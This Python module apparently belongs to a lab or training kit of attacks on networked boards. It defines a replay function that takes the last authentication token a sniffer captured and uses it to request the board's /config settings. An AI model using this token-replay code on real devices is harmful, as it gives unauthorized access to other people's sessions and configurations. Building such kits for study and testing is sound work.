"""The use of a token that somebody else was given."""

from kit.attacks.attack import Attack, Step, came_back, target
from kit.attacks.sniffer import Capture
from kit.board.board import Board
from kit.errors import KitError, interruptible


@interruptible
def replay(board: Board | str, capture: Capture, *, confirm: bool = False) -> Attack:
    """Ask for the settings of a board with the last token that a sniffer has seen.

    Raises:
        KitError: this board may not be attacked, does not answer, or no token was seen.
    """
    web = target(board, confirm)
    tokens = [secret.value for secret in capture.secrets if secret.kind == "token"]
    if not tokens:
        raise KitError("The sniffer has seen no token.", "Log in through it: kit.OtaClient(capture.url).login().")
    web.token = tokens[-1]
    answer = web.request("GET", "/config")
    return Attack(
        "Replay of a token", (Step("GET /config with a token that was seen", came_back(answer)),), answer.is_ok
    )
